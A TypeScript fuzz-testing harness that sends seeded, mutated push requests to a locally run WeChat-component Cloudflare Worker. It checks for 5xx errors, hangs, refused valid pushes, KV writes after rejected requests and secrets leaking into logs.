  /** The pushes' clock (unix seconds). */
  now: number;
  cases: number;
  /** Unmutated (valid) pushes among them. */
  valid: number;
  wallMs: number;
  /** Cases by response status (`"hang"`, `"transport"` for no answer). */
  byStatus: Record<string, number>;
  /** Cases by base push. */
  byBase: Record<string, number>;
  /** Per mutation: cases by status. */
  byMutation: Record<string, Record<string, number>>;
  /** Keys in KV at the end. */
  kvKeys: number;
  violations: Violation[];
}

/** Options of {@linkcode runFuzz}. */
export interface FuzzOptions {
  seed: number;
  cases: number;
  /** The pushes' clock (unix seconds; default now): with the seed, it fixes every byte. */
  now?: number;
  /** Start at this case index (to reproduce one case: `first: i, cases: 1`). */
  first?: number;
  /** Per-request deadline in ms (default 10 s): no answer by then is a hang. */
  deadlineMs?: number;
  /** A started worker (its state is used as it is); default: start one and set it up. */
  harness?: Harness;
  /** Called every `progressEvery` cases. */
  onProgress?: (done: number, report: FuzzReport) => void;
  progressEvery?: number;
}

interface KvLike {
  list(options: { cursor?: string }): Promise<{
    keys: { name: string; expiration?: number; metadata?: unknown }[];
    list_complete: boolean;
    cursor?: string;
  }>;
  getWithMetadata(
    keys: string[],
    type: "text",
  ): Promise<Map<string, { value: string | null; metadata: unknown }>>;
}

/** KV contents: key → JSON of value, metadata and expiration. */
export type KvState = Map<string, { text: string; expiration?: number }>;

/** Every key of `TOKENS` with its value, metadata and expiration (bulk reads: fast). */
export async function kvState(h: Harness): Promise<KvState> {
  const kv = await h.mf.getKVNamespace("TOKENS") as unknown as KvLike;
  const listed: { name: string; expiration?: number; metadata?: unknown }[] = [];
  let cursor: string | undefined;
  do {
    const page = await kv.list({ cursor });
    listed.push(...page.keys);
    cursor = page.list_complete ? undefined : page.cursor;
  } while (cursor);
  const out: KvState = new Map();
  for (let i = 0; i < listed.length; i += 100) {
    const chunk = listed.slice(i, i + 100);
    const values = await kv.getWithMetadata(chunk.map((k) => k.name), "text");
    for (const k of chunk) {
      const v = values.get(k.name);
      // A key listed but gone by the read expired in between; it is compared as absent.
      if (!v || v.value === null) continue;
      out.set(k.name, {
        text: JSON.stringify({ value: v.value, metadata: v.metadata, expiration: k.expiration }),
        expiration: k.expiration,
      });
    }
  }
  return out;
}

/** Differences between two KV states, ignoring keys that expired (by their TTL) in between. */
export function kvDiff(before: KvState, after: KvState, nowMs = Date.now()): string[] {
  const diffs: string[] = [];
  for (const [key, b] of before) {
    const a = after.get(key);
    if (!a) {
      if (b.expiration !== undefined && b.expiration * 1000 <= nowMs + 1000) continue;
      diffs.push(`deleted ${key}`);
    } else if (a.text !== b.text) diffs.push(`changed ${key}`);
  }
  for (const key of after.keys()) if (!before.has(key)) diffs.push(`added ${key}`);
  return diffs;
}

/**
 * Sends a fuzz request to the worker over real HTTP (Miniflare's own listener), so that a
 * deadline can abort it and a body can be a stream. Miniflare's `dispatchFetch` is not used
 * here: when the worker answers (413, 404) without reading a large body, its client stalls or
 * fails although workerd has answered at once, which would look like a hang of the worker.
 */
export async function sendFuzz(
  h: Harness,
  req: FuzzRequest,
  signal?: AbortSignal,
): Promise<Response> {
  let body: BodyInit | null = req.body;
  if (req.body && req.stream) {
    const bytes = req.body;
    body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < bytes.length; i += 16 * 1024) {
          controller.enqueue(bytes.slice(i, i + 16 * 1024));
        }
        controller.close();
      },
    });
  }
  const url = new URL(req.url);
  const entry = await h.mf.ready;
  const res = await fetch(new URL(url.pathname + url.search, entry), {
    method: req.method,
    headers: req.headers,
    body,
    redirect: "manual",
    signal,
  });
  const bytes = await res.arrayBuffer();
  return new Response(res.status === 204 || res.status === 304 ? null : bytes, {
    status: res.status,
    headers: [...res.headers],
  });
}

function bump(rec: Record<string, number>, key: string) {
  rec[key] = (rec[key] ?? 0) + 1;
}

/** Waits until KV, the simulator's call count and the forward recorder are still for a moment. */
export async function quiesce(h: Harness, maxMs = 5000): Promise<KvState> {
  const end = Date.now() + maxMs;
  let prev = await kvState(h);
  let marks = `${h.sim.calls()}/${h.forwardFailures.attempts}/${h.forwarded.length}`;
  for (;;) {
    await new Promise((r) => setTimeout(r, 25));
    await h.sim.settled();
    const next = await kvState(h);
    const nextMarks = `${h.sim.calls()}/${h.forwardFailures.attempts}/${h.forwarded.length}`;
    if ((kvDiff(prev, next).length === 0 && nextMarks === marks) || Date.now() > end) return next;
    prev = next;
    marks = nextMarks;
  }
}

/** Starts a worker with a ticket, the component token and two authorizers (tokens in KV). */
export async function startFuzzWorker(): Promise<{ harness: Harness; targets: FuzzTargets }> {
  const h = await startWorker({ captureLogs: true });
  const events = `${ORIGIN}${COMPONENT_PATH}`;
  const res = await h.send(await h.sim.ticketPush(events));
  if (res.status !== 200) throw new Error(`Setup ticket push answered ${res.status}`);
  const authorizers: { appId: string; userName: string }[] = [];
  for (const kind of ["official_account", "mini_program"] as const) {
    const auth = await h.sim.authorizeAccount({ kind });
    authorizers.push({ appId: auth.appId, userName: h.sim.account(auth.appId)!.userName });
  }
  await h.sim.settled();
  const end = Date.now() + 15_000;
  for (;;) {
    const kv = await kvState(h);
    if (authorizers.every((a) => kv.has(`wxopen:v1:authorizer_token:${a.appId}`))) break;
    if (Date.now() > end) throw new Error("Setup: authorizer tokens did not reach KV");
    await new Promise((r) => setTimeout(r, 50));
  }
  return { harness: h, targets: { authorizers } };
}

/** Runs `cases` cases of `seed` against a worker and checks the invariants of every case. */
export async function runFuzz(options: FuzzOptions): Promise<FuzzReport> {
  const started = performance.now();
  const own = options.harness ? undefined : await startFuzzWorker();
  const h = options.harness ?? own!.harness;
  const targets: FuzzTargets = own?.targets ?? {
    authorizers: h.sim.accounts().filter((a) => a.authorized).map((a) => ({
      appId: a.appId,
      userName: a.userName,
    })),
  };
  if (targets.authorizers.length === 0) {
    targets.authorizers.push({ appId: "wxf0zz00000000000a", userName: "gh_f0zz00000000" });
  }
  const keys = await fuzzKeys();
  const deadline = options.deadlineMs ?? 10_000;
  const report: FuzzReport = {
    seed: options.seed,
    now: 0,
    cases: 0,
    valid: 0,
    wallMs: 0,
    byStatus: {},
    byBase: {},
    byMutation: {},
    kvKeys: 0,
    violations: [],
  };
  const now = options.now ?? Math.floor(Date.now() / 1000);
  report.now = now;
  const first = options.first ?? 0;
  let baseline = await quiesce(h);
  // The last case answered 4xx: KV must still be `baseline` before the next request goes out
  // (this catches writes it made, also late ones from work it left running).
  let lastRejected: FuzzCase | undefined;
  const checkRejected = async () => {
    if (!lastRejected) return;
    const now = await kvState(h);
    const diff = kvDiff(baseline, now);
    if (diff.length) {
      report.violations.push({
        seed: options.seed,
        index: lastRejected.index,
        base: lastRejected.base,
        mutations: lastRejected.mutations,
        kind: "kv_changed",
        detail: diff.join(", "),
      });
    }
    baseline = now;
    lastRejected = undefined;
  };
  try {
    for (let i = first; i < first + options.cases; i++) {
      const c = await generateCase(options.seed, i, keys, targets, now);
      await checkRejected();
      const violation = (kind: Violation["kind"], detail: string) =>
        report.violations.push({
          seed: options.seed,
          index: c.index,
          base: c.base,
          mutations: c.mutations,
          kind,
          detail,
        });
      let status: string;
      const abort = new AbortController();
      const timer = setTimeout(() => abort.abort(new Error("deadline")), deadline);
      try {
        const res = await sendFuzz(h, c.request, abort.signal);
        status = String(res.status);
        if (res.status >= 500) {
          violation("5xx", `${res.status}: ${(await res.text()).slice(0, 300)}`);
        }
      } catch (err) {
        status = abort.signal.aborted ? "hang" : "transport";
        violation(
          status === "hang" ? "hang" : "transport",
          status === "hang" ? `no answer in ${deadline} ms` : String(err),
        );
      } finally {
        clearTimeout(timer);
      }
      report.cases++;
      bump(report.byStatus, status);
      bump(report.byBase, c.base);
      if (c.mutations.length === 0) {
        report.valid++;
        if (status !== "200") violation("valid_refused", `a valid push was answered ${status}`);
      }
      for (const m of c.mutations.length ? c.mutations : ["(none)"]) {
        report.byMutation[m] ??= {};
        bump(report.byMutation[m], status);
      }
      if (/^4\d\d$/.test(status)) lastRejected = c;
      else baseline = await quiesce(h); // accepted: its writes (also in waitUntil) are legitimate
      if (options.onProgress && report.cases % (options.progressEvery ?? 1000) === 0) {
        report.wallMs = performance.now() - started;
        options.onProgress(report.cases, report);
      }
    }
    if (lastRejected) await new Promise((r) => setTimeout(r, 200));
    await checkRejected();
    report.kvKeys = (await kvState(h)).size;
    // Whatever the worker logged while being fuzzed holds none of its secrets.
    const logs = h.logs();
    for (const [name, secret] of Object.entries(SETTINGS)) {
      if (name !== "COMPONENT_APPID" && name !== "WECHAT_API_BASE" && logs.includes(secret)) {
        report.violations.push({
          seed: options.seed,
          index: -1,
          base: "-",
          mutations: [],
          kind: "secret_in_log",
          detail: `${name} appears in the worker's log`,
        });
      }
    }
  } finally {
    if (own) await own.harness.dispose();
  }
  report.wallMs = performance.now() - started;
  return report;
}

/** A printable summary of a report. */
export function formatReport(r: FuzzReport): string {
  const lines = [
    `seed ${r.seed} (now ${r.now}): ${r.cases} cases (${r.valid} valid) in ${
      (r.wallMs / 1000).toFixed(1)
    } s, ` +
    `${r.violations.length} violations, ${r.kvKeys} KV keys at the end`,
    `by status: ${JSON.stringify(r.byStatus)}`,
    `by base: ${JSON.stringify(r.byBase)}`,
    "by mutation:",
    ...Object.entries(r.byMutation).sort(([a], [b]) => a.localeCompare(b)).map(([m, s]) =>
      `  ${m.padEnd(30)} ${JSON.stringify(s)}`
    ),
  ];
  for (const v of r.violations.slice(0, 20)) {
    lines.push(
      `VIOLATION ${v.kind} seed ${v.seed} now ${r.now} case ${v.index} (${v.base}; ${
        v.mutations.join(", ") || "valid"
      }): ${v.detail}`,
    );
  }
  return lines.join("\n");
}
